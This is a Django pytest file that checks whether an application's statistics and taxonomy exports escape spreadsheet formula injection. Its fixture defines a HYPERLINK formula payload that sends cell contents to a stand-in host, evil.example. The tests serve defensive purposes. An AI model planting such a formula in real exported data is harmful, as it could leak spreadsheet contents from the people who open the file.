"""A worker named as a formula comes out of every statistics export as text, never as a live cell."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from maillage.core.models import AuditEntry, Organisation, Role, User
from tests.casework.factories import CaseFileFactory, FollowUpFactory, PersonFactory, RequestFactory
from tests.conftest import client_for
from tests.factories import member

pytestmark = pytest.mark.django_db

EVIL = '=HYPERLINK("http://evil.example/x?"&A1,"Cliquez ici")'


@pytest.fixture
def evil_worker(organisation: Organisation) -> User:
    from maillage.casework.schemes import ensure_casework_schemes

    ensure_casework_schemes()
    worker = member(Role.WORKER, organisation, full_name=EVIL, language="en")
    case_file = CaseFileFactory(person=PersonFactory(organisation=organisation))
    for _number in range(2):
        RequestFactory(follow_up=FollowUpFactory(case_file=case_file, worker=worker))
    return worker


def _body(response) -> bytes:  # type: ignore[no-untyped-def]
    return b"".join(response.streaming_content)


QUERY = {"run": "1", "measure": "requests", "rows": "theme1", "columns": "worker"}


def test_crosstab_csv_neutralises_a_worker_named_as_a_formula(evil_worker: User) -> None:
    response = client_for(evil_worker).get(reverse("stats:casework_crosstab"), {**QUERY, "export": "csv"})
    text = _body(response).decode("utf-8")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff")), delimiter=";"))
    assert rows[4][0] == "Categories read in"  # after the description of the table
    assert rows[7:10] == [
        ["Requests"],
        ["Theme (level 1) × Worker", "'" + EVIL, "Total"],
        ["FOOD — Food aid", "2", "2"],
    ]
    assert "no-store" in [part.strip() for part in response["Cache-Control"].split(",")]
    assert AuditEntry.objects.filter(code="stats.crosstab.exported", actor=evil_worker).count() == 1


def test_crosstab_xlsx_writes_a_worker_named_as_a_formula_as_a_string_cell(evil_worker: User) -> None:
    response = client_for(evil_worker).get(reverse("stats:casework_crosstab"), {**QUERY, "export": "xlsx"})
    sheet = load_workbook(io.BytesIO(_body(response))).worksheets[0]
    assert sheet[6][0].value == "Categories read in"  # after the title, the description of the table
    header = sheet[9]
    assert [(cell.value, cell.data_type) for cell in header] == [
        ("Theme (level 1) × Worker", "s"),
        (EVIL, "s"),
        ("Total", "s"),
    ]
    assert header[1].quotePrefix is True
    assert "no-store" in [part.strip() for part in response["Cache-Control"].split(",")]


def test_taxonomy_csv_neutralises_a_label_written_as_a_formula(federation_staff: User, request_themes) -> None:  # type: ignore[no-untyped-def]
    version = request_themes.versions.get(status="published")
    food = version.categories.get(code="FOOD")
    food.label_en = EVIL
    food.save(update_fields=["label_en"])
    response = client_for(federation_staff).get(
        reverse("taxonomy:download", args=[request_themes.code, version.number]), {"sep": "comma"}
    )
    rows = list(csv.reader(io.StringIO(_body(response).decode("utf-8"))))
    assert [row for row in rows if row[0] == "FOOD"] == [
        ["FOOD", "", food.label_fr, food.label_nl, "'" + EVIL, food.description, "yes"]
    ]
